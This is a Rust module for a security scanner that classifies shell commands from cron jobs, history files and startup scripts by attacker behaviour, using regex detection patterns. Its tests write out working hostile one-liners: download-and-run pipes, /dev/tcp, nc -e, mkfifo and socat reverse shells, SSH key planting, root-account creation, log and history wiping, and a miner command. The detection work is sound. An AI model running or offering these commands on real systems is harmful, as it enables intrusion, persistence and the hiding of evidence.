//! Recognising what a shell command does, wherever it was found: a history line, a
//! cron job, a systemd `ExecStart`, `/etc/rc.local`, an `authorized_keys` forced
//! command, a line of a shell script, a command a PHP file runs. One classifier, so
//! every check and the scanner read commands the same way; each decides how severe
//! a sign is in its own context.

use regex::{Regex, RegexSet, RegexSetBuilder};
use std::sync::LazyLock;

/// Something a command does that attackers do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SignKind {
    /// Fetches a script and runs it (`curl … | sh`, `bash <(wget …)`).
    DownloadExec,
    /// Decodes something and runs it (`echo … | base64 -d | sh`).
    DecodeExec,
    /// A reverse or bind shell (`/dev/tcp/`, `nc -e`, `mkfifo … nc`, `socat exec:`).
    ReverseShell,
    /// Makes a file in a temp directory executable, or runs one from there.
    TempExec,
    /// Runs something from a hidden directory (`/var/www/.cache/x`).
    HiddenExec,
    /// Wipes or disables shell history.
    HistoryWipe,
    /// Wipes system logs.
    LogWipe,
    /// Adds an SSH key to an `authorized_keys` file.
    SshKeyAdd,
    /// Creates an account.
    AccountAdd,
    /// Gives an account UID 0 or root's groups.
    PrivilegedAccount,
    /// Flushes or disables the firewall or SELinux.
    FirewallOff,
    /// Makes files immutable or mutable again (`chattr +i` / `-i`).
    Immutable,
    /// Installs or removes a crontab non-interactively.
    CrontabInstall,
    /// Runs or configures a cryptocurrency miner.
    Miner,
    /// Downloads something (on its own, often harmless: `curl https://site/wp-cron.php`).
    Fetch,
}

impl SignKind {
    /// Short words for the evidence line.
    pub fn describe(self) -> &'static str {
        match self {
            SignKind::DownloadExec => "downloads and runs code",
            SignKind::DecodeExec => "decodes and runs code",
            SignKind::ReverseShell => "reverse shell",
            SignKind::TempExec => "runs code from a temp directory",
            SignKind::HiddenExec => "runs code from a hidden directory",
            SignKind::HistoryWipe => "wipes shell history",
            SignKind::LogWipe => "wipes system logs",
            SignKind::SshKeyAdd => "adds an SSH key",
            SignKind::AccountAdd => "creates an account",
            SignKind::PrivilegedAccount => "gives an account root rights",
            SignKind::FirewallOff => "turns the firewall or SELinux off",
            SignKind::Immutable => "changes the immutable flag",
            SignKind::CrontabInstall => "installs a crontab",
            SignKind::Miner => "cryptocurrency miner",
            SignKind::Fetch => "downloads a file",
        }
    }
}

/// A sign found in a command, with the text that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sign {
    pub kind: SignKind,
    pub matched: String,
}

const TEMP: &str = r"(?:/tmp|/var/tmp|/dev/shm|/run/shm|/var/lib/php/sessions)/";
const SHELL: &str = r"(?:\S*/)?(?:ba|da|z|k|mk|c|tc|fi|a)?sh\b";
const INTERP: &str = r"(?:\S*/)?(?:python[0-9.]*|perl|php[0-9.]*|ruby|node|lua)\b";
const FETCH: &str = r"\b(?:curl|wget|fetch|lwp-download|lwp-request|GET|tftp|aria2c)\b";
/// Where a command word starts: line start, after a separator or a `sudo`/`nohup`.
const CMD_START: &str =
    r"(?:^|[;&|(`]|\$\()\s*(?:(?:sudo|nohup|exec|setsid|env|nice|timeout\s+\d+)\s+)*";

fn patterns() -> Vec<(SignKind, String)> {
    use SignKind::*;
    let t = TEMP;
    let s = SHELL;
    let i = INTERP;
    let f = FETCH;
    let c = CMD_START;
    vec![
        (DownloadExec, format!(r"{f}[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:{s}|{i})")),
        (DownloadExec, format!(r"(?:{s}|{i})\s+(?:-\S+\s+)*(?:<\(|-c\s+)?\S?\$\(\s*{f}")),
        (DownloadExec, format!(r"(?:{s})\s+<\(\s*{f}")),
        (DownloadExec, format!(r"{f}[^;&|]*(?:-O|-o|>)\s*\S*{t}[^;&|]*(?:&&|;)\s*(?:chmod|\.?/|{s}|{i}|{t})")),
        (DecodeExec, format!(r"(?:base64\s+(?:-\w+\s+)*(?:-d|--decode|-D)|openssl\s+(?:enc\s+)?-?(?:base64|a)\b[^|]*-d|xxd\s+-r|base32\s+-d|rev\b)[^|;]*\|\s*(?:sudo\s+)?(?:{s}|{i})")),
        (DecodeExec, r"\beval\b[^;]*\$\([^)]*\b(?:base64|base32|xxd)\b[^)]*-(?:d|r|D|-decode)".to_string()),
        (DecodeExec, format!(r"(?:{s}|{i})\s+-c\s+\S*\$\([^)]*\bbase64\b")),
        (DecodeExec, format!(r"{i}[^|]*-c\s*\S*.*\b(?:b64decode|base64_decode|decode\(.base64.\)|frombase64|unpack\(.m)")),
        (ReverseShell, r"/dev/(?:tcp|udp)/[\w.\-]+/\d+".to_string()),
        (ReverseShell, r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^|;]*\s-[a-z]*[ec]\s*\S".to_string()),
        (ReverseShell, r"\bmk(?:fifo|nod)\b[^;]*(?:;|&&|\|)[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b".to_string()),
        (ReverseShell, r"\bsocat\b.*\b(?:exec|system):".to_string()),
        (ReverseShell, r"\b(?:ba)?sh\s+-i\s*(?:>&|&>|2>&1|<&|\||>\s*/dev/)".to_string()),
        (ReverseShell, r"\b(?:socket|fsockopen|TCPSocket|IO::Socket)\b.*\b(?:subprocess|pty\.spawn|dup2|exec|proc_open|system|popen)\b".to_string()),
        (ReverseShell, r"\btelnet\s+\S+\s+\d+\s*\|\s*(?:/bin/)?(?:ba)?sh\b".to_string()),
        (TempExec, format!(r"\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*x[rwx]*|0?[0-7]?[1357][0-7]{{2}}|0?[0-7]{{2}}[1357]|0?[0-7][1357][0-7])\s+(?:\S+\s+)*\S*{t}")),
        (TempExec, format!(r"{c}(?:(?:{s}|{i})\s+(?:-\S+\s+)*)?{t}\S+")),
        (TempExec, r"\bcd\s+(?:/tmp|/var/tmp|/dev/shm|/run/shm)(?:/\S*)?\s*(?:&&|;)\s*(?:\S+\s+)?\./\S".to_string()),
        (HiddenExec, format!(r"{c}(?:{s}\s+|{i}\s+)?/\S*/\.[^/\s.][^/\s]*/\S+")),
        (HistoryWipe, r"\bhistory\s+-[cw]\b|\bunset\s+(?:-v\s+)?HISTFILE\b|\bHIST(?:FILE)?SIZE=0\b|\bHISTFILE=/dev/null|\bset\s+\+o\s+history\b|\bexport\s+HISTFILE=\S|\bHISTCONTROL=ignorespace|\bkill\s+-9\s+\$\$".to_string()),
        (HistoryWipe, r"(?:\b(?:rm|shred|truncate|unlink)\b[^;|&]*|>\s*|\bln\s+-s\w*\s+/dev/null\s+)\S*\.(?:bash_|zsh_|sh_|mysql_|python_|psql_)?history\b".to_string()),
        (LogWipe, r"(?:\b(?:rm|shred|truncate|unlink)\b[^;|&]*|(?:^|[^>&0-9])>\s*)/var/log/(?:wtmp|btmp|lastlog|utmp|auth\.log|secure|messages|syslog|audit|apache2|nginx|httpd|mail\.log|maillog)".to_string()),
        (LogWipe, r"\bjournalctl\s+.*--vacuum|\bauditctl\s+-D\b|\bsystemctl\s+stop\s+(?:rsyslog|auditd|syslog)".to_string()),
        (SshKeyAdd, r">>?\s*\S*authorized_keys2?\b|\btee\s+(?:-a\s+)?\S*authorized_keys2?\b|\bssh-(?:rsa|ed25519|dss)\s+AAAA\S+.*>>".to_string()),
        (AccountAdd, r"\b(?:useradd|adduser|newusers)\b".to_string()),
        (AccountAdd, r">>\s*/etc/(?:passwd|shadow)\b".to_string()),
        (PrivilegedAccount, r"\b(?:useradd|usermod)\b[^;|&]*(?:-o\b[^;|&]*-u\s*0\b|-u\s*0\b[^;|&]*-o\b)|\b(?:useradd|usermod)\b[^;|&]*-(?:a?G|g)\s*\S*\b(?:sudo|wheel|adm|root)\b|:0:0:[^>]*>>\s*/etc/passwd|\bgpasswd\s+-a\s+\S+\s+(?:sudo|wheel|root)\b".to_string()),
        (FirewallOff, r"\biptables\s+(?:-t\s+\w+\s+)?(?:-F|--flush)\b|\bip6?tables\s+-P\s+INPUT\s+ACCEPT|\bufw\s+disable\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:firewalld|ufw|iptables|nftables|apparmor)\b|\bnft\s+flush\s+ruleset\b|\bsetenforce\s+0\b|\bservice\s+(?:iptables|firewalld)\s+stop".to_string()),
        (Immutable, r"\bchattr\s+(?:-\w\s+)?[+-][aisAdu]*i".to_string()),
        (CrontabInstall, r"\|\s*crontab\s+(?:-u\s+\S+\s+)?-\s*$|\|\s*crontab\s+(?:-u\s+\S+\s+)?-\s*[;&|)]|\bcrontab\s+(?:-u\s+\S+\s+)?(?:/|\./)\S+|\bcrontab\s+(?:-u\s+\S+\s+)?-r\b".to_string()),
        (Fetch, FETCH.to_string()),
    ]
}

struct Classifier {
    set: RegexSet,
    each: Vec<(SignKind, Regex)>,
}

static CLASSIFIER: LazyLock<Classifier> = LazyLock::new(|| {
    let pats = patterns();
    let set = RegexSetBuilder::new(pats.iter().map(|(_, p)| p))
        .size_limit(64 << 20)
        .build()
        .expect("static regexes");
    let each = pats
        .into_iter()
        .map(|(k, p)| (k, Regex::new(&p).expect("static regex")))
        .collect();
    Classifier { set, each }
});

static MINER_WORDS: LazyLock<Vec<String>> = LazyLock::new(|| {
    include_str!("../../../rules/ioc/miner-pools.txt")
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_ascii_lowercase)
        .collect()
});

/// The miner word (pool host, miner option or name) in `text`, if any.
pub fn miner_word(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    MINER_WORDS
        .iter()
        .find(|w| lower.contains(w.as_str()))
        .map(String::as_str)
}

/// Every sign in one command line, one per kind, strongest kinds first.
pub fn classify(command: &str) -> Vec<Sign> {
    let c = &*CLASSIFIER;
    let mut signs: Vec<Sign> = Vec::new();
    for idx in c.set.matches(command).iter() {
        let (kind, re) = &c.each[idx];
        if signs.iter().any(|s| s.kind == *kind) {
            continue;
        }
        if let Some(m) = re.find(command) {
            signs.push(Sign {
                kind: *kind,
                matched: m.as_str().trim().to_string(),
            });
        }
    }
    if let Some(word) = miner_word(command) {
        signs.push(Sign {
            kind: SignKind::Miner,
            matched: word.to_string(),
        });
    }
    // A download that is also run says more than the bare download.
    if signs.iter().any(|s| s.kind == SignKind::DownloadExec) {
        signs.retain(|s| s.kind != SignKind::Fetch);
    }
    signs.sort_by_key(|s| s.kind);
    signs
}

/// The kinds of sign in a command (for tests and quick decisions).
pub fn kinds(command: &str) -> Vec<SignKind> {
    classify(command).into_iter().map(|s| s.kind).collect()
}

#[cfg(test)]
mod tests {
    use super::SignKind::*;
    use super::*;

    #[test]
    fn attacker_commands_are_recognised() {
        let cases: &[(&str, SignKind)] = &[
            ("curl -fsSL http://1.2.3.4/x.sh | bash", DownloadExec),
            ("wget -q -O- http://evil/i | sh -s", DownloadExec),
            ("bash -c \"$(curl -fsSL http://e/x)\"", DownloadExec),
            ("bash <(wget -qO- http://e/x)", DownloadExec),
            ("curl http://e/x | python3 -", DownloadExec),
            (
                "wget http://e/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
                DownloadExec,
            ),
            ("echo Y3VybCBodHRw | base64 -d | bash", DecodeExec),
            ("echo aGk= | base64 --decode | sh", DecodeExec),
            ("eval \"$(echo ZWNobw== | base64 -d)\"", DecodeExec),
            (
                "python3 -c 'import base64;exec(base64.b64decode(\"aW1w\"))'",
                DecodeExec,
            ),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ReverseShell),
            ("nc -e /bin/sh 10.0.0.1 4444", ReverseShell),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
                ReverseShell,
            ),
            (
                "socat tcp-connect:1.2.3.4:443 exec:'bash -li',pty",
                ReverseShell,
            ),
            (
                "python -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
                ReverseShell,
            ),
            ("chmod +x /tmp/kworker", TempExec),
            ("chmod 777 /dev/shm/.x/miner", TempExec),
            ("nohup /tmp/.x/run >/dev/null 2>&1 &", TempExec),
            ("sh /dev/shm/x.sh", TempExec),
            ("cd /var/tmp && ./x", TempExec),
            ("/var/www/html/.cache/.bin/upd", HiddenExec),
            ("history -c", HistoryWipe),
            ("unset HISTFILE", HistoryWipe),
            ("export HISTSIZE=0", HistoryWipe),
            ("ln -sf /dev/null ~/.bash_history", HistoryWipe),
            ("rm -f /root/.bash_history", HistoryWipe),
            ("cat /dev/null > /var/log/auth.log", LogWipe),
            ("rm -rf /var/log/wtmp", LogWipe),
            (
                "echo ssh-rsa AAAAB3Nza hacker >> /root/.ssh/authorized_keys",
                SshKeyAdd,
            ),
            ("useradd -m backup2", AccountAdd),
            ("usermod -o -u 0 backup2", PrivilegedAccount),
            ("useradd -o -u 0 -g 0 sysadm", PrivilegedAccount),
            ("usermod -aG sudo www-data", PrivilegedAccount),
            (
                "echo 'x:abc:0:0::/root:/bin/bash' >> /etc/passwd",
                PrivilegedAccount,
            ),
            ("iptables -F", FirewallOff),
            ("ufw disable", FirewallOff),
            ("setenforce 0", FirewallOff),
            ("chattr +i /etc/cron.d/sys", Immutable),
            ("chattr -ia /root/.ssh/authorized_keys", Immutable),
            (
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                CrontabInstall,
            ),
            ("crontab /tmp/cron.txt", CrontabInstall),
            (
                "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1",
                Miner,
            ),
            ("curl -s https://example.com/wp-cron.php > /dev/null", Fetch),
        ];
        for (cmd, kind) in cases {
            assert!(
                kinds(cmd).contains(kind),
                "{cmd:?} should show {kind:?}, got {:?}",
                kinds(cmd)
            );
        }
    }

    #[test]
    fn ordinary_admin_commands_are_not_signs() {
        let clean = [
            "apt update && apt upgrade -y",
            "git pull origin main",
            "systemctl restart nginx",
            "tail -f /var/log/nginx/access.log",
            "vim /etc/nginx/sites-available/default",
            "mysql -u root -p wordpress",
            "certbot renew --dry-run",
            "crontab -l",
            "crontab -e",
            "ls -la /tmp",
            "rm -rf /tmp/build",
            "cd /var/www/html && git status",
            "chmod 644 /var/www/html/wp-config.php",
            "tar czf /tmp/backup.tgz /var/www",
            "cp /tmp/wordpress.zip /var/www/",
            "ssh-keygen -t ed25519",
            "cat ~/.ssh/authorized_keys",
            "journalctl -u nginx --since today",
            "history | grep nginx",
            "grep -r base64_decode /var/www",
            "less /var/log/syslog",
            "du -sh /var/log",
            "php -v",
            "composer install --no-dev",
            "/usr/bin/php /var/www/html/wp-cron.php",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            "/usr/bin/certbot -q renew --no-random-sleep-on-renew",
            "cd /home/deploy/.config && ls",
            "sudo systemctl status php8.2-fpm",
        ];
        for cmd in clean {
            let k = kinds(cmd);
            assert!(k.is_empty(), "{cmd:?} is ordinary but showed {k:?}");
        }
    }
}
